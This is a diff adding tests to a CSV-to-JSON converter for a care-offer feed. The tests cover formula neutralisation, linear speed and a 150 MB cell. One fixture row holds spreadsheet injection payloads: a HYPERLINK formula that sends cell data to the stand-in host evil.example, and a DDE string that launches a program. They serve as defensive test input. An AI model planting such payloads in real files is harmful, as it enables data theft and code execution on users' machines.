@@ -251,3 +251,63 @@ test('round trip: from-csv --out, then validate exits 0', async () => {
   // Only the structure without coordinates remains worth a remark.
   assert.deepEqual(report.warnings.map((w) => w.code), ['location-missing']);
 });
+
+test('formula-looking cells: kept as typed text in the feed, each reported with its row and column; numbers and phones are not formulas', async () => {
+  const head = `${HEAD};telephone;intitule;precision_cout;calendrier`;
+  const text = [
+    head,
+    // = (a link sending data away), + (DDE: runs a program), - (arithmetic), @ (a function), after spaces or a tab.
+    row([...S1, 'a-1', 'douleur', 'patient', 'ville', '', '"=HYPERLINK(""http://evil.example/?d=""&A1;""Cliquez"")"', '+33 5 56 79 58 58', "+cmd|' /C calc'!A0", '-2+3', '"\t@SUM(1+1)"']),
+    // A negative longitude (S2: 1,26 → here -1,26), a phone with brackets, a number with a sign: no warning.
+    row(['asso-b', 'Association B', 'association', '87000', 'Limoges', '45,83', '-1,26', '2026-09-01', 'b-1', 'social', 'patient', 'ville', '', 'Groupe de parole', '+33 (0)5 55 00 00 00', 'Atelier', '-10 % avec la carte', '+2 séances']),
+  ].join('\n');
+  const r = await convert('formulas.csv', text);
+  assert.equal(r.code, 0, r.stderr);
+  const [a, b] = r.feed.structures;
+  assert.equal(a.offers[0].description, '=HYPERLINK("http://evil.example/?d="&A1;"Cliquez")');
+  assert.equal(a.offers[0].label, "+cmd|' /C calc'!A0");
+  assert.equal(a.offers[0].costNote, '-2+3');
+  assert.equal(a.offers[0].schedule, '@SUM(1+1)');
+  assert.equal(a.contact.phone, '+33 5 56 79 58 58');
+  assert.equal(b.location.lon, -1.26);
+  assert.equal(b.contact.phone, '+33 (0)5 55 00 00 00');
+  assert.match(r.stderr, /Formules de tableur neutralisées \(gardées comme texte\) \(6\)/);
+  assert.match(r.stderr, /ligne 2, colonne « description_offre » : "=HYPERLINK\("http:\/\/evil\.example\/\?d="&A1;"Cliquez"\)" commence par « = » comme une formule de tableur : formule neutralisée, gardée telle quelle comme texte dans le flux/);
+  assert.match(r.stderr, /ligne 2, colonne « intitule » : "\+cmd\|' \/C calc'!A0" commence par « \+ »/);
+  assert.match(r.stderr, /ligne 2, colonne « precision_cout » : "-2\+3" commence par « - »/);
+  assert.match(r.stderr, /ligne 2, colonne « calendrier » : "@SUM\(1\+1\)" commence par « @ »/);
+  // Text that only starts like a formula is still reported: a spreadsheet would run it too.
+  assert.match(r.stderr, /ligne 3, colonne « precision_cout » : "-10 % avec la carte" commence par « - »/);
+  assert.match(r.stderr, /ligne 3, colonne « calendrier » : "\+2 séances" commence par « \+ »/);
+  assert.doesNotMatch(r.stderr, /colonne « (telephone|longitude|latitude) » : .*formule/);
+});
+
+test('from-csv is linear in the number of structures: 20,000 structures in seconds, not a minute', async () => {
+  const lines = [HEAD];
+  for (let i = 0; i < 20_000; i++) lines.push(row([`s-${i}`, `Structure ${i}`, 'association', '33000', 'Bordeaux', '44,84', '-0,58', '2026-09-01', `o-${i}`, 'douleur', 'patient', 'ville', '', '']));
+  const file = join(dir, 'many.csv');
+  writeFileSync(file, lines.join('\n'));
+  const started = Date.now();
+  const r = await new Promise((done) => {
+    execFile(process.execPath, [cli, 'from-csv', file, ...PUBLISHER, '--out', join(dir, 'many.json')], { cwd: root, timeout: 60_000 }, (error, stdout, stderr) => done({ code: error ? error.code ?? 1 : 0, stderr }));
+  });
+  const ms = Date.now() - started;
+  assert.equal(r.code, 0, r.stderr.slice(0, 2000));
+  assert.match(r.stderr, /Flux produit : 20000 structures, 20000 offres/);
+  // Quadratic, this took 18 to 54 s; linear, under 2 s (scripts/bench-from-csv.mjs times 10k/20k/40k).
+  assert.ok(ms < 20_000, `${ms} ms`);
+});
+
+test('a 150 MB cell in Windows-1252 converts (the spreadsheet is cut in slices, not built character by character)', async () => {
+  const head = Buffer.from('structure_id;structure_nom;type_structure;code_postal;commune;verifie_le;offre_id;soin;publics;lieux;description_offre\ncs-a;Centre A;centre-sante;33000;Bordeaux;2026-09-01;a-1;douleur;patient;ville;"', 'latin1');
+  const file = join(dir, 'huge-cell.csv');
+  writeFileSync(file, Buffer.concat([head, Buffer.alloc(150_000_000, 0xe9), Buffer.from('"\n')]));
+  const r = await new Promise((done) => {
+    execFile(process.execPath, [cli, 'from-csv', file, ...PUBLISHER, '--out', join(dir, 'huge-cell.json')], { cwd: root, timeout: 90_000 }, (error, stdout, stderr) => done({ code: error ? error.code ?? error.signal ?? 1 : 0, stderr }));
+  });
+  assert.equal(r.code, 0, r.stderr.slice(0, 2000));
+  assert.match(r.stderr, /Windows-1252/);
+  assert.match(r.stderr, /ligne 2, colonne « description_offre » : texte coupé à 4000 caractères/);
+  const feed = JSON.parse(readFileSync(join(dir, 'huge-cell.json'), 'utf8'));
+  assert.match(feed.structures[0].offers[0].description, /^é{3999}…$/);
+});
